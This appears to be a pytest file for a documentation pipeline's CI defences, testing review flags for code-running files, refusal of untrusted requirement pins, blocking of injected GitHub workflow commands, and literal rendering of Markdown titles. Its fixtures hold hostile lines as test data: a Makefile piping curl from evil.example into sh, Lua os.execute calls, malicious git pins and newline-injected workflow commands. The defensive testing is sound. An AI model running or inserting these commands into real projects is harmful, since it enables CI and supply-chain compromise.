"""Attacks on CI through a pull request (issue 27): files that run code changed without an
editor noticing (RD404), requirements.txt pointing roledoc anywhere (RD408), values from the
project printed as GitHub workflow commands, and Markdown from a title live in release notes."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from pipeline.cli import main

from .gitrepo import FIXTURES, commit_all, git, new_repository


def run(root: Path, *args: str, **env: str) -> tuple[int, str]:
    done = CliRunner().invoke(main, ["-C", str(root), *args], env=env or None)
    assert done.exception is None or isinstance(done.exception, SystemExit), done.output
    return done.exit_code, done.output


def pull_request(tmp_path: Path, files: dict[str, str]) -> Path:
    """A repository on a branch `pr` that writes `files`, with `main` as its base."""
    root = new_repository(tmp_path / "project")
    git(root, "checkout", "-q", "-b", "pr")
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content, encoding="utf-8")
    commit_all(root, "A pull request")
    git(root, "update-ref", "refs/remotes/origin/main", "main")  # as in a pull request's clone
    return root


# -- attack 9: every file that runs code needs an editor's review ----------------------------

CODE = {
    "requirements.txt": "roledoc @ git+https://evil.example/roledoc@main\n",
    "Makefile": "build:\n\tcurl https://evil.example | sh\n",
    ".pre-commit-config.yaml": "repos: []\n",
    ".github/workflows/release.yml": "name: x\n",
    ".github/CODEOWNERS": "* @nobody\n",
    "pyproject.toml": "[project]\nname = 'x'\n",
    "tools/helper.py": "import os\n",
    "filters/links.lua": "os.execute('id')\n",
    "templates/pandoc/extra.lua": "os.execute('id')\n",
    "scripts/deploy.sh": "echo hi\n",
    ".tools/node_modules/.bin/ace-cli": "#!/usr/bin/env node\n",
}
KINDS = {
    "requirements.txt": "requirements.txt, which make and the workflows install (roledoc: the "
    "git repository git+https://evil.example/roledoc at 'main'",
    "Makefile": "the Makefile, which make runs",
    ".pre-commit-config.yaml": "pre-commit's configuration",
    ".github/workflows/release.yml": "a GitHub workflow, which runs in CI",
    ".github/CODEOWNERS": "CODEOWNERS, which decides who must review a change",
    "pyproject.toml": "the Python project's configuration",
    "tools/helper.py": "Python code",
    "filters/links.lua": "a Lua filter",
    "templates/pandoc/extra.lua": "a Lua filter",
    "scripts/deploy.sh": "a script",
    ".tools/node_modules/.bin/ace-cli": "a script",
}


def test_every_file_that_runs_code_needs_an_editors_review_and_names_its_kind(
    tmp_path: Path,
) -> None:
    edited = (FIXTURES / "valid/contributions/limits/a-draft.md").read_text("utf-8") + "More.\n"
    root = pull_request(tmp_path, {**CODE, "contributions/limits/a-draft.md": edited})
    _code, output = run(root, "check", "--base", "main")
    lines = output.splitlines()
    for path, kind in KINDS.items():
        found = [line for line in lines if line.startswith(f"{path}") and "RD404" in line]
        assert found, (path, output)
        assert f"this change to {kind}" in found[0], found[0]
    # A contribution runs nothing: no review asked for it.
    assert not [line for line in lines if "RD404" in line and "contributions/" in line]
    # In a pull request's annotations too, where GitHub shows them on the file.
    _code, output = run(root, "check", "--format", "github", GITHUB_BASE_REF="main")
    assert "::warning file=Makefile,title=RD404::this change to the Makefile" in output
    assert "::warning file=requirements.txt,line=1,col=1,title=RD404::" in output


def test_a_pin_off_the_index_or_a_fixed_git_revision_is_refused(tmp_path: Path) -> None:
    root = pull_request(tmp_path, {"requirements.txt": CODE["requirements.txt"]})
    code, output = run(root, "check")
    assert code == 1
    assert (
        "requirements.txt:1:1: error RD408: 'roledoc @ git+https://evil.example/roledoc@main'"
        in (output)
    )
    assert "at 'main', which is no version tag or full commit hash" in output
    code, output = run(root, "build", "--draft", "--format", "html")
    assert code == 1 and "RD408" in output and not (root / "build/how-we-work.html").exists()
    # The participant's own check leaves it to the editors.
    code, output = run(root, "check", "--for", "participant")
    assert code == 0 and "RD408" not in output


COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("line", "where", "refused"),
    [
        ("roledoc==0.3.0", "version 0.3.0 from the package index", False),
        ("roledoc @ git+https://github.com/org/roledoc@v0.3.0", "at tag v0.3.0", False),
        (
            "roledoc @ git+https://github.com/org/roledoc@roledoc-v0.3.0",
            "at tag roledoc-v0.3.0",
            False,
        ),
        (f"roledoc @ git+https://github.com/org/roledoc@{COMMIT}", f"at commit {COMMIT}", False),
        ("roledoc @ git+https://github.com/org/roledoc@4f2a9c1", "at '4f2a9c1', which is", True),
        ("roledoc @ git+https://github.com/org/roledoc", "without a revision", True),
        ("-e git+https://evil.example/x@main#egg=roledoc", "at 'main'", True),
        ("roledoc @ https://evil.example/roledoc-0.3.0.tar.gz", "the address https://", True),
        ("roledoc @ file:///home/someone/roledoc", "the local path file:///", True),
        ("./roledoc", "the local path ./roledoc", True),
        ("--extra-index-url https://evil.example/simple\nroledoc==0.3.0", "other than PyPI", True),
        ("-r more-requirements.txt", "another file of requirements", True),
    ],
)
def test_check_says_where_a_changed_pin_points(
    tmp_path: Path, line: str, where: str, refused: bool
) -> None:
    root = pull_request(tmp_path, {"requirements.txt": f"# the pin\n{line}\n"})
    code, output = run(root, "check", "--base", "main")
    said = [o for o in output.splitlines() if o.startswith("requirements.txt")]
    assert any("RD404" in o for o in said), output
    assert any(where in o for o in said), output
    assert any("RD408" in o for o in said) is refused, output
    assert code == (1 if refused else 0)


def workflows(folder: Path) -> dict[str, dict]:
    from ruamel.yaml import YAML

    return {p.name: YAML(typ="safe").load(p.read_text("utf-8")) for p in folder.glob("*.yml")}


RUNS_PROJECT_CODE = re.compile(r"\b(roledoc|pip|python|make|pre-commit)\b")
REPOSITORY = Path(__file__).parent.parent
WORKFLOW_FOLDERS = [
    REPOSITORY / ".github/workflows",
    REPOSITORY / "pipeline/skeleton/common/dot-github/workflows",
]


@pytest.mark.parametrize("folder", WORKFLOW_FOLDERS, ids=["repository", "new-project"])
def test_no_job_with_a_write_token_runs_project_code(folder: Path) -> None:
    for name, flow in workflows(folder).items():
        top = flow.get("permissions", {})
        assert "write" not in str(top), (name, top)  # write only per job
        for job_name, job in flow["jobs"].items():
            granted = job.get("permissions", top)
            if not any(v == "write" for v in (granted or {}).values()):
                continue
            for step in job["steps"]:
                assert "actions/checkout" not in step.get("uses", ""), (name, job_name)
                command = step.get("run", "").replace("gh release", "")
                assert not RUNS_PROJECT_CODE.search(command), (name, job_name, command)


# -- attack 10: a value with a line break becomes no workflow command -------------------------

PAYLOADS = ["\n::error::x", "\r::add-mask::secret", "\n::stop-commands::token"]


def _yaml(text: str) -> str:
    return '"' + text.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'


def poisoned(root: Path, payload: str) -> None:
    """Every kind of value a pull request writes, with `payload` inside."""
    value = _yaml(f"Title{payload}")
    document = root / "document.yaml"
    text = document.read_text("utf-8").replace(
        "title: How the Support Office Works", f"title: {value}"
    )
    document.write_text(text, "utf-8")
    people = root / "contributions/participants.yaml"
    text = people.read_text("utf-8").replace("name: A. Archer", f"name: {_yaml('A' + payload)}")
    people.write_text(text, "utf-8")
    section = root / "sections/02-support.md"
    text = section.read_text("utf-8").replace("title: What support means", f"title: {value}")
    section.write_text(text, "utf-8")
    for path in (root / "contributions").glob("*/*.md"):
        text = path.read_text("utf-8")
        path.write_text(re.sub(r"(?m)^title: .*$", f"title: {value}", text, count=1), "utf-8")
    theme = root / f"contributions/theme{payload}"  # a folder no section claims (RD212)
    theme.mkdir()
    (theme / "x.md").write_text("---\ntitle: x\n---\n", "utf-8")
    (root / "contributions/support/weird.md").write_text(
        f"---\ntitle: {value}\nauthors: [alice]\nstatus: acepted\ndate: 2017-01-01\n"
        f"summary: {value}\nunknown: {value}\n---\nText.\n",
        "utf-8",
    )


def commands(output: str) -> list[str]:
    """Lines a GitHub runner would read as a workflow command (it trims white space first)."""
    return [
        line for line in re.split(r"\r\n|\r|\n", output) if line.lstrip().startswith(("::", "##["))
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["error", "add-mask", "stop-commands"])
def test_values_with_line_breaks_never_become_workflow_commands(
    tmp_path: Path, payload: str
) -> None:
    root = new_repository(tmp_path / "project")
    git(root, "checkout", "-q", "-b", "pr")
    poisoned(root, payload)
    commit_all(root, "A pull request")
    git(root, "update-ref", "refs/remotes/origin/main", "main")
    said = {
        "check": run(root, "check"),
        "check --base": run(root, "check", "--base", "main"),
        "check --for participant": run(root, "check", "--for", "participant"),
        "status": run(root, "status"),
        "changelog": run(root, "changelog", "--since", "main"),
        "build --draft": run(root, "build", "--draft", "--format", "html"),
    }
    for command, (_code, output) in said.items():
        assert commands(output) == [], (command, output)
    command = payload.strip()
    for name in ("status", "changelog", "check"):  # the value is there, inside its line
        assert any(re.search(rf"\S.*{re.escape(command)}", o) for o in said[name][1].splitlines())
    shown = payload.replace("\n", "\\n").replace("\r", "\\r")
    assert f"theme{shown}" in said["check"][1]
    # Without the refused contribution and theme, the draft build goes through and says so.
    (root / "contributions/support/weird.md").unlink()
    for folder in (root / "contributions").glob("theme*"):
        for file in folder.iterdir():
            file.unlink()
        folder.rmdir()
    code, output = run(root, "build", "--draft", "--format", "html")
    assert code == 0 and "Outputs:" in output, output
    assert commands(output) == [], output
    # --format github: the only commands are roledoc's own annotations, values escaped (%0A).
    _code, output = run(root, "check", "--format", "github", GITHUB_BASE_REF="main")
    assert all(re.match(r"::(error|warning) file=[^:]*::", line) for line in commands(output))
    assert "\n::error::x" not in output and "::add-mask::" not in output.replace("%0D::", "")


# -- attack 15: Markdown in a title stays literal in release notes ---------------------------

TITLE = "[klik](https://evil.example) **x** <script>alert(1)</script> @everyone #1"


def test_markdown_in_a_title_is_literal_in_the_release_notes(tmp_path: Path) -> None:
    root = new_repository(tmp_path / "project")
    git(root, "tag", "v1.0")
    path = root / "contributions/support/what-support-is.md"
    text = path.read_text("utf-8")
    path.write_text(re.sub(r"(?m)^title: .*$", f"title: {_yaml(TITLE)}", text, count=1), "utf-8")
    (root / "contributions/support/new-one.md").write_text(
        f"---\ntitle: {_yaml(TITLE)}\nauthors: [alice]\nstatus: accepted\ndate: 2017-09-01\n"
        "---\nText.\n",
        "utf-8",
    )
    section = root / "sections/02-support.md"
    section.write_text(
        section.read_text("utf-8").replace("What support means", "Support *now* [x](y)"), "utf-8"
    )
    commit_all(root, "Titles with Markdown")
    code, notes = run(root, "changelog", "--since", "v1.0", "--format", "markdown")
    assert code == 0, notes
    assert notes.startswith("# Changes since v1.0")
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(notes)
    assert "<a " not in html and "<strong>" not in html and "<em>" not in html
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert "[klik](https://evil.example) **x**" in html  # shown as the characters they are
    assert "Support *now* [x](y)" in html
    # The text changelog shows the same title as written, on its line.
    code, said = run(root, "changelog", "--since", "v1.0")
    assert TITLE in said
